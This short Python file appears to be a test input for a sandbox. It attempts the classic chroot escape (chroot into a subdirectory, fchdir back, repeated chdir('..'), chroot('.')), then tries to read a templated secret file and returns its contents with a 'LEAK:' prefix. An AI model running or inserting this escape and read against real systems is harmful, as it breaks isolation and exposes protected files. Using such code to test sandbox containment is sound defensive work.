import os
got = None

fd = os.open('/usr/lib', os.O_RDONLY)
try:
    os.mkdir('/tmp/j'); os.chroot('/tmp/j'); os.fchdir(fd)
    for _ in range(64): os.chdir('..')
    os.chroot('.'); got = 'chroot'
except OSError: pass
try: got = got or open('@SECRET_FILE@').read()
except OSError: pass

def f(x): return 'LEAK:%s' % (got,) if got else 0
